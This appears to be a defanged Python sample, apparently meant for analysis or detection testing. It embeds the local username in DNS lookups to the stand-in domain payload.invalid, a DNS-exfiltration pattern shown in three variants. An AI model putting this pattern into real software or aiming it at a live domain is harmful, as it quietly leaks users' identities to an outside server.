# Defanged sample: nothing here is reached or run; defanged by hand.
import socket, getpass
socket.gethostbyname(f'{getpass.getuser()}.payload.invalid')
socket.gethostbyname(getpass.getuser() + '.payload.invalid')
user = getpass.getuser()
socket.getaddrinfo(f'{user}.payload.invalid', 80)
